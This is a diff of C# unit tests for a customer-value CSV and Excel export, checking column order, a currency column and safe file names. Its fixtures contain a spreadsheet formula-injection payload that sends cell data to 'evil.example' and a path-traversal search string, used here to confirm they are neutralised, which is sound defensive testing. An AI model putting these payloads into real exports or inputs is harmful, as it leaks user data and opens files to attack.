@@ -34,11 +34,11 @@ public sealed class CustomerExportTests
 
         var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
         Assert.Equal(3, lines.Length);
-        // The id holds quotes and commas, so it is quoted; inside the quotes it starts with the apostrophe.
-        Assert.StartsWith("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click for details\"\")\",12.5,", lines[1], StringComparison.Ordinal);
-        Assert.DoesNotContain(lines, l => l.StartsWith('=') || l.StartsWith("\"=", StringComparison.Ordinal));
+        // No email, then the id: it holds quotes and commas, so it is quoted; inside the quotes it starts with the apostrophe.
+        Assert.StartsWith(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click for details\"\")\",,,12.5,", lines[1], StringComparison.Ordinal);
+        Assert.DoesNotContain(lines, l => l.Contains(",=", StringComparison.Ordinal) || l.Contains(",\"=", StringComparison.Ordinal));
         // The portal's own numbers stay numbers, negative ones included.
-        Assert.StartsWith("C2,-3,", lines[2], StringComparison.Ordinal);
+        Assert.StartsWith(",C2,,,-3,", lines[2], StringComparison.Ordinal);
     }
 
     [Fact]
@@ -49,7 +49,19 @@ public sealed class CustomerExportTests
 
         var bytes = output.ToArray();
         Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
-        Assert.StartsWith("customer_id,headline_clv,", Encoding.UTF8.GetString(bytes[3..]), StringComparison.Ordinal);
+        Assert.StartsWith("email,customer_id,name,country,predicted_clv,", Encoding.UTF8.GetString(bytes[3..]), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task WriteCsvAsync_AnalysisInPounds_NamesTheCurrencyInTheLastColumn()
+    {
+        using var output = new MemoryStream();
+        await CustomerExport.WriteCsvAsync(ToAsync([Customer("C1", clv: 1)]), output, "GBP", CancellationToken.None);
+
+        var lines = Encoding.UTF8.GetString(output.ToArray()[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
+        Assert.EndsWith(",currency", lines[0], StringComparison.Ordinal);
+        Assert.EndsWith(",GBP", lines[1], StringComparison.Ordinal);
+        Assert.Equal(lines[0].Count(c => c == ','), lines[1].Count(c => c == ','));
     }
 
     [Fact]
@@ -61,16 +73,34 @@ public sealed class CustomerExportTests
         output.Position = 0;
         using var workbook = new XLWorkbook(output);
         var sheet = workbook.Worksheet("Customers");
-        Assert.Equal("customer_id", sheet.Cell(1, 1).GetString());
+        Assert.Equal("customer_id", sheet.Cell(1, 2).GetString());
         foreach (var row in new[] { 2, 3 })
         {
-            var id = sheet.Cell(row, 1);
+            var id = sheet.Cell(row, 2);
             Assert.False(id.HasFormula, $"row {row} became a formula");
             Assert.StartsWith("'", id.GetString(), StringComparison.Ordinal);
         }
 
-        Assert.Equal("'" + Hyperlink, sheet.Cell(2, 1).GetString());
-        Assert.Equal(12.5, sheet.Cell(2, 2).GetDouble());
+        Assert.Equal("'" + Hyperlink, sheet.Cell(2, 2).GetString());
+        Assert.Equal(12.5, sheet.Cell(2, 5).GetDouble());
+    }
+
+    [Fact]
+    public async Task WriteCsvAsync_RoundedNegativeZero_IsWrittenAsZero()
+    {
+        var csv = await CsvOf([Customer("C1", clv: -0.001)]);
+
+        Assert.StartsWith(",C1,,,0,", csv.Split("\r\n")[1], StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void FileName_WinBackSearch_NamesTheListNotTheSearchText()
+    {
+        var id = Guid.Parse("0f8fad5b-d9cb-469f-a165-70867728950e");
+
+        Assert.Equal(
+            "clv-results-0f8fad5bd9cb469fa16570867728950e-win-back-search.csv",
+            CustomerExport.FileName(id, "csv", new CustomerFilter(Search: "../../etc\"x", List: CustomerList.WinBack)));
     }
 
     [Fact]
